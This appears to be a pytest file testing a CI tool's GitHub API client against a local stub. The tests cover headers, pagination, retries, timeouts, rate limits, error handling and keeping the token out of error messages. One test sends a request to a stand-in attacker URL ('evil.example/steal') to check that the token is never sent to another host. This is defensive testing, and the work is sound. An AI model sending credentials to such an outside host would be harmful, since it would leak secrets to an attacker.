"""The GitHub client against the stand-in API: timeouts, retries, rate limits, pagination."""

from __future__ import annotations

import socket
from collections.abc import Iterator

import pytest
import requests

from mlci.errors import EXIT_SERVICE, ServiceError, UsageError
from mlci.platforms.github.client import GitHubClient, GitHubError, ReadOnlyError, RetryPolicy

from stubs.github_stub import TOKEN, GitHubStub

FAST = RetryPolicy(timeout=2, backoff=0.01, max_wait=3)
PULL = "/repos/octo/churn/pulls/1"


@pytest.fixture
def stub() -> Iterator[GitHubStub]:
    with GitHubStub() as server:
        server.add_pull("octo/churn", 1)
        yield server


@pytest.fixture
def client(stub: GitHubStub) -> Iterator[GitHubClient]:
    with GitHubClient(TOKEN, stub.url, FAST) as c:
        yield c


def test_every_request_carries_token_and_api_headers(stub: GitHubStub, client: GitHubClient) -> None:
    client.get(PULL)
    client.request("POST", "/repos/octo/churn/issues/1/comments", json={"body": "hi"})
    for call in stub.requests:
        assert call.headers["authorization"] == f"Bearer {TOKEN}"
        assert call.headers["accept"] == "application/vnd.github+json"
        assert call.headers["x-github-api-version"] == "2022-11-28"
        assert call.headers["user-agent"].startswith("mlci/")


def test_stub_pages_at_30_by_default_and_client_asks_for_100(stub: GitHubStub, client: GitHubClient) -> None:
    for i in range(250):
        stub.add_comment("octo/churn", 1, f"comment {i}")
    plain = requests.get(
        f"{stub.url}/repos/octo/churn/issues/1/comments",
        headers={"Authorization": f"Bearer {TOKEN}"},
        timeout=5,
    )
    assert len(plain.json()) == 30 and 'rel="next"' in plain.headers["Link"]

    stub.requests.clear()
    bodies = [c["body"] for c in client.paginate("/repos/octo/churn/issues/1/comments")]
    assert bodies == [f"comment {i}" for i in range(250)]
    assert [(r.query.get("per_page"), r.query.get("page")) for r in stub.requests] == [
        ("100", None),
        ("100", "2"),
        ("100", "3"),
    ]


def test_5xx_is_retried_until_it_succeeds(stub: GitHubStub, client: GitHubClient) -> None:
    stub.fail(502, times=2)
    assert client.get(PULL)["number"] == 1
    assert len(stub.calls("GET", PULL)) == 3


def test_persistent_5xx_gives_up_within_the_budget_with_exit_3(stub: GitHubStub) -> None:
    stub.fail(502, times=1000)
    policy = RetryPolicy(timeout=2, backoff=0.05, max_wait=0.5)
    with GitHubClient(TOKEN, stub.url, policy) as c, pytest.raises(ServiceError) as info:
        c.get(PULL)
    err = info.value
    assert err.exit_code == EXIT_SERVICE
    assert "\n" not in str(err)
    assert "GET /repos/octo/churn/pulls/1: 502" in str(err) and "gave up after" in str(err)
    assert 2 <= len(stub.requests) <= 6  # backoff 0.05, 0.1, 0.2 ... within 0.5 s


def test_connection_refused_is_a_service_error() -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]  # closed again before the client connects
    policy = RetryPolicy(timeout=2, backoff=0.01, max_wait=0.2)
    with (
        GitHubClient(TOKEN, f"http://127.0.0.1:{port}", policy) as c,
        pytest.raises(ServiceError) as info,
    ):
        c.get(PULL)
    assert "connection failed" in str(info.value)


def test_a_request_that_hangs_times_out_and_is_retried(stub: GitHubStub) -> None:
    stub.slow(1.5, times=1, method="GET")
    policy = RetryPolicy(timeout=0.3, backoff=0.01, max_wait=5)
    with GitHubClient(TOKEN, stub.url, policy) as c:
        assert c.get(PULL)["number"] == 1
    assert len(stub.calls("GET", PULL)) == 2


def test_a_hanging_server_ends_in_a_service_error_not_a_hang(stub: GitHubStub) -> None:
    stub.slow(2, times=100)
    policy = RetryPolicy(timeout=0.2, backoff=0.01, max_wait=0.5)
    with GitHubClient(TOKEN, stub.url, policy) as c, pytest.raises(ServiceError) as info:
        c.request("POST", "/repos/octo/churn/issues/1/comments", json={"body": "x"})
    assert "no answer within 0.2s" in str(info.value)


def test_secondary_rate_limit_waits_for_retry_after(stub: GitHubStub, client: GitHubClient) -> None:
    stub.secondary_rate_limit(retry_after=1)
    assert client.get(PULL)["number"] == 1
    first, second = stub.calls("GET", PULL)
    assert second.at - first.at >= 1.0  # GitHub asked for one second; we did not come back sooner


def test_retry_after_beyond_the_budget_gives_up_at_once(stub: GitHubStub, client: GitHubClient) -> None:
    stub.secondary_rate_limit(retry_after=60)
    with pytest.raises(ServiceError) as info:
        client.get(PULL)
    assert "rate limited" in str(info.value) and "retry-after 60" in str(info.value)
    assert len(stub.requests) == 1


def test_secondary_rate_limit_without_retry_after_backs_off(stub: GitHubStub) -> None:
    stub.secondary_rate_limit(retry_after=None)
    policy = RetryPolicy(timeout=2, backoff=0.005, max_wait=5)  # waits 60 x backoff = 0.3 s
    with GitHubClient(TOKEN, stub.url, policy) as c:
        assert c.get(PULL)["number"] == 1
    first, second = stub.calls("GET", PULL)
    assert second.at - first.at >= 0.3


def test_primary_rate_limit_waits_for_the_reset(stub: GitHubStub, client: GitHubClient) -> None:
    stub.primary_rate_limit(reset_in=1)
    assert client.get(PULL)["number"] == 1
    assert len(stub.calls("GET", PULL)) == 2


def test_429_is_a_rate_limit_too(stub: GitHubStub, client: GitHubClient) -> None:
    stub.fail(429, headers={"retry-after": "0"}, body={"message": "Too Many Requests"})
    assert client.get(PULL)["number"] == 1


def test_read_only_token_is_not_retried(stub: GitHubStub, client: GitHubClient) -> None:
    stub.read_only = True
    with pytest.raises(ReadOnlyError) as info:
        client.request("POST", "/repos/octo/churn/issues/1/comments", json={"body": "x"})
    assert info.value.status == 403 and "Resource not accessible by integration" in str(info.value)
    assert len(stub.requests) == 1


def test_a_plain_403_is_not_mistaken_for_a_rate_limit(stub: GitHubStub, client: GitHubClient) -> None:
    stub.fail(403, body={"message": "Must have admin rights to Repository."})
    with pytest.raises(GitHubError) as info:
        client.get(PULL)
    assert info.value.status == 403 and len(stub.requests) == 1


def test_validation_errors_carry_githubs_code(stub: GitHubStub, client: GitHubClient) -> None:
    with pytest.raises(GitHubError) as info:
        client.request("POST", "/repos/octo/churn/git/refs", json={"ref": "refs/tags/x"})
    assert info.value.status == 422
    assert '"sha" wasn\'t supplied' in str(info.value)


def test_missing_ok_returns_none_for_404(client: GitHubClient) -> None:
    assert client.get("/repos/octo/churn/pulls/99", missing_ok=True) is None
    with pytest.raises(GitHubError):
        client.get("/repos/octo/churn/pulls/99")


def test_the_token_never_appears_in_errors(stub: GitHubStub) -> None:
    # A misbehaving server (or proxy) that echoes the credentials back in its error.
    stub.fail(400, body={"message": f"bad header Authorization: Bearer {TOKEN}"})
    stub.fail(502, times=1000, body={"message": f"upstream said {TOKEN}"})
    with GitHubClient(TOKEN, stub.url, RetryPolicy(backoff=0.01, max_wait=0.2)) as c:
        errors = []
        for _ in range(2):
            with pytest.raises(ServiceError) as info:
                c.get(PULL)
            errors.append(info.value)
        assert TOKEN not in repr(c)
    for err in errors:
        for text in (str(err), repr(err), *map(str, err.args), err.message):
            assert TOKEN not in text
        assert err.__cause__ is None and (err.__context__ is None or err.__suppress_context__)


def test_bad_credentials_say_so_without_the_token(stub: GitHubStub) -> None:
    wrong = "ghp_" + "W" * 36
    with GitHubClient(wrong, stub.url, FAST) as c, pytest.raises(GitHubError) as info:
        c.get(PULL)
    assert info.value.status == 401 and "Bad credentials" in str(info.value)
    assert wrong not in str(info.value)


def test_the_token_is_never_sent_to_another_host(stub: GitHubStub, client: GitHubClient) -> None:
    with pytest.raises(ServiceError) as info:
        client.get("https://evil.example/steal")
    assert "refusing to send the token" in str(info.value)


@pytest.mark.parametrize("value", ["soon", "-1", "nan", "inf"])
def test_bad_http_settings_are_usage_errors(value: str) -> None:
    with pytest.raises(UsageError) as info:
        RetryPolicy.from_env({"MLCI_HTTP_MAX_WAIT": value})
    assert "MLCI_HTTP_MAX_WAIT" in str(info.value)


def test_http_settings_come_from_the_environment() -> None:
    policy = RetryPolicy.from_env(
        {"MLCI_HTTP_TIMEOUT": "5", "MLCI_HTTP_BACKOFF": "0.5", "MLCI_HTTP_MAX_WAIT": "60"}
    )
    assert (policy.timeout, policy.backoff, policy.max_wait) == (5, 0.5, 60)
    assert RetryPolicy.from_env({}) == RetryPolicy()
